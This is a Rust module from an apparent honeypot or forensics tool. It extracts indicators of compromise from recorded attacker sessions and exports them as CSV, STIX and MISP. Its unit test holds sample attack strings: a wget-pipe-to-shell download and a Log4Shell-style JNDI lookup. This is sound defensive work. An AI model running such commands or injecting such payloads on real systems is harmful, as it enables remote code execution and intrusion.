//! Indicators of compromise: by what the same intruder may be found elsewhere.

mod misp;
mod stix;

use std::collections::BTreeMap;
use std::io;
use std::net::IpAddr;

use jiff::Timestamp;

use super::bag::{About, Bag};
use super::{Case, Custody, table};
use crate::event::observation::{Direction, Mark};
use crate::event::{Observation, SessionEvent};

/// What an indicator is.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Kind {
    /// The peer's address.
    Source(IpAddr),
    /// A file, by its SHA-256.
    File { sha256: String, name: String, size: u64 },
    /// A place that the peer fetched from or pointed at.
    Url(String),
    /// An account that was tried. Passwords are left out: they may be real ones.
    Account(String),
    /// A mark of the peer's software: which, and its value.
    Software(&'static str, String),
}

/// One indicator with the time it was seen.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Indicator {
    pub(super) kind: Kind,
    pub(super) first: Timestamp,
    pub(super) last: Timestamp,
    pub(super) count: u32,
}

/// Adds them in three forms.
pub(super) fn add(bag: &mut Bag, case: &Case, custody: &Custody) -> io::Result<()> {
    let found = gather(case);
    let about = |zh, en| About { zh, en, category: "分析结果", source: "chain".into() };
    bag.bytes("iocs.csv", about("失陷指标", "indicators"), csv(&found).as_bytes())?;
    let stix = serde_json::to_vec_pretty(&stix::bundle(case, custody, &found))?;
    bag.bytes("iocs.stix.json", about("失陷指标（STIX 2.1）", "indicators, STIX 2.1"), &stix)?;
    let misp = serde_json::to_vec_pretty(&misp::event(case, custody, &found))?;
    bag.bytes("iocs.misp.json", about("失陷指标（MISP）", "indicators, MISP"), &misp)
}

/// All indicators, each once.
pub(super) fn gather(case: &Case) -> Vec<Indicator> {
    let mut found: BTreeMap<Kind, Indicator> = BTreeMap::new();
    for (_, event) in case.events() {
        for kind in kinds(event) {
            let seen = found.entry(kind.clone()).or_insert(Indicator {
                kind,
                first: event.at,
                last: event.at,
                count: 0,
            });
            seen.last = event.at;
            seen.count += 1;
        }
    }
    found.into_values().collect()
}

fn kinds(event: &SessionEvent) -> Vec<Kind> {
    match &event.observation {
        Observation::Opened { .. } => vec![Kind::Source(event.origin.source.ip().to_canonical())],
        Observation::Transfer { direction: Direction::Upload, name, size, sha256 } => {
            vec![Kind::File { sha256: sha256.clone(), name: name.for_terminal(), size: *size }]
        }
        Observation::AuthAttempt { account, .. } if !account.is_empty() => {
            vec![Kind::Account(account.for_terminal())]
        }
        Observation::Fingerprint { mark, value } => {
            mark_name(*mark).map(|name| Kind::Software(name, value.for_terminal())).into_iter().collect()
        }
        Observation::Command { line, .. } => urls(line.as_untrusted()),
        Observation::ExploitAttempt { payload, .. } => urls(payload.as_untrusted()),
        Observation::Tunnel { target, .. } => urls(target.as_untrusted()),
        _ => Vec::new(),
    }
}

/// Marks by which software is found again; names of devices are the hospital's own.
fn mark_name(mark: Mark) -> Option<&'static str> {
    match mark {
        Mark::Ja4 => Some("ja4"),
        Mark::Hassh => Some("hassh"),
        Mark::SshClient => Some("ssh_client"),
        Mark::SshKey => Some("ssh_key"),
        Mark::UserAgent => Some("user_agent"),
        Mark::DicomImplementation => Some("dicom_implementation"),
        _ => None,
    }
}

/// Web and file addresses in a text of the peer's.
fn urls(text: &str) -> Vec<Kind> {
    const SCHEMES: [&str; 6] = ["http://", "https://", "ftp://", "tftp://", "ldap://", "rmi://"];
    let is_end = |c: char| c.is_whitespace() || c.is_control() || "\"'`<>|;){}".contains(c);
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = SCHEMES.iter().filter_map(|scheme| rest.find(scheme)).min() {
        let from = rest.split_at(at).1;
        let (url, behind) = from.split_at(from.find(is_end).unwrap_or(from.len()));
        if url.len() > url.find("://").map_or(0, |at| at + 3) {
            found.push(Kind::Url(url.to_owned()));
        }
        rest = behind;
    }
    found
}

fn csv(found: &[Indicator]) -> String {
    let mut text = format!(
        "{}{}",
        table::MARK,
        table::row(&["type", "value", "note", "first_utc", "last_utc", "count"])
    );
    for Indicator { kind, first, last, count } in found {
        let (name, value, note) = match kind {
            Kind::Source(address) => ("source", address.to_string(), String::new()),
            Kind::File { sha256, name, size } => ("sha256", sha256.clone(), format!("{name}, {size} bytes")),
            Kind::Url(url) => ("url", url.clone(), String::new()),
            Kind::Account(account) => ("account", account.clone(), String::new()),
            Kind::Software(mark, value) => (*mark, value.clone(), String::new()),
        };
        text.push_str(&table::row(&[
            name,
            &value,
            &note,
            &first.to_string(),
            &last.to_string(),
            &count.to_string(),
        ]));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_found_in_commands() {
        let found =
            urls("cd /tmp; wget http://198.51.100.7/x.sh -O- | sh; curl 'https://a.example/b?c=1' ftp://");
        let expected = ["http://198.51.100.7/x.sh", "https://a.example/b?c=1"];
        assert_eq!(found, expected.map(|url| Kind::Url(url.into())));
        assert_eq!(urls("${jndi:ldap://10.0.0.9:1389/a}"), [Kind::Url("ldap://10.0.0.9:1389/a".into())]);
        assert_eq!(urls("no address"), []);
    }
}
